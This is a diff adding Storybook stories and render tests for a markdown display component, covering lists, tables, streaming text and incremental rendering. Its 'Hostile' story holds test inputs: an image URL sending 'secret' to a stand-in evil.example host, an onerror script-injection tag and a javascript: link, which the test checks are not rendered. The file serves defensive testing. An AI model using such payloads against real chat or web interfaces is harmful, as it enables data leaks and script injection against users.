@@ -1,0 +1,73 @@
+/** Markdown of an answer as well-set text. */
+import type { Meta, StoryObj } from '@storybook/web-components-vite';
+import { html } from 'lit';
+import { expect, waitFor } from 'storybook/test';
+import '@loqui/elements/loqui-markdown.js';
+import { all, find, textOf } from '../play/shadow.js';
+import { longAnswer } from '../scripts/long-answer.js';
+
+interface Args {
+  text: string;
+  streaming: boolean;
+}
+
+const [long] = longAnswer.steps.flatMap((step) => ('event' in step && step.event.type === 'message.completed' ? step.event.parts : []));
+const longText = long?.type === 'text' ? long.text : '';
+
+const meta = {
+  title: 'Views/loqui-markdown',
+  component: 'loqui-markdown',
+  args: { text: 'A paragraph with *emphasis*, **weight**, `code` and [a link](https://example.com).', streaming: false },
+  argTypes: { text: { control: 'text' } },
+  decorators: [(story) => html`<div style="max-inline-size: 640px">${story()}</div>`],
+  render: ({ text, streaming }) => html`<loqui-markdown .text=${text} .streaming=${streaming}></loqui-markdown>`,
+} satisfies Meta<Args>;
+
+export default meta;
+type Story = StoryObj<Args>;
+
+export const Inline: Story = {};
+export const Everything: Story = { args: { text: longText } };
+export const Lists: Story = { args: { text: '1. First\n2. Second\n   - inside\n     - deeper\n3. Third\n\n- [x] done\n- [ ] open' } };
+export const Table: Story = { args: { text: '| Version | Repeats |\n| --- | --: |\n| 1 | 1 per page |\n| 2 | 0 |' } };
+/** Wider than the column: it scrolls in itself, never the page. */
+export const WideTable: Story = {
+  args: {
+    text: `| ${Array.from({ length: 12 }, (_, index) => `Column ${String(index)}`).join(' | ')} |\n|${' --- |'.repeat(12)}\n| ${Array.from({ length: 12 }, (_, index) => `a value ${String(index)}`).join(' | ')} |`,
+  },
+};
+export const Quote: Story = { args: { text: '> A cursor is a promise about the next row,\n> not a memory of the last one.' } };
+/** Unfinished marks are shown completed; the caret stands behind the last word. */
+export const Streaming: Story = { args: { text: 'Two commits touch it. **4f1c made the cur', streaming: true } };
+export const OpenFence: Story = { args: { text: 'The change:\n\n```ts\nexport async function page(after: Cursor', streaming: true } };
+/** Images of other origins are not loaded, and scripts are text: an answer cannot carry out what was said. */
+export const Hostile: Story = {
+  args: { text: '![secret](https://evil.example/?q=secret)\n\n<img src=x onerror=alert(1)>\n\n[click](javascript:alert(1))' },
+  play: async ({ canvasElement }) => {
+    await find(canvasElement, 'loqui-markdown');
+    await expect(all<HTMLImageElement>(canvasElement, 'img[src*="evil.example"], img[onerror]')).toHaveLength(0);
+    await expect(all<HTMLAnchorElement>(canvasElement, 'a[href^="javascript:"]')).toHaveLength(0);
+  },
+};
+
+/** What comes piece by piece stands in the end as if it had come at once. */
+export const PieceByPiece: Story = {
+  args: { text: longText },
+  render: () => html`<loqui-markdown></loqui-markdown>`,
+  play: async ({ canvasElement, args }) => {
+    const markdown = await find<HTMLElementTagNameMap['loqui-markdown']>(canvasElement, 'loqui-markdown');
+    markdown.streaming = true;
+    for (let end = 0; end < args.text.length; end += 90) {
+      markdown.text = args.text.slice(0, end);
+      await new Promise(requestAnimationFrame);
+    }
+    markdown.text = args.text;
+    markdown.streaming = false;
+    const whole = document.createElement('loqui-markdown');
+    whole.text = args.text;
+    canvasElement.append(whole);
+    await waitFor(() => expect(textOf(markdown)).toBe(textOf(whole)));
+    await expect(all(markdown.shadowRoot!, 'loqui-code-block')).toHaveLength(2);
+    whole.remove();
+  },
+};
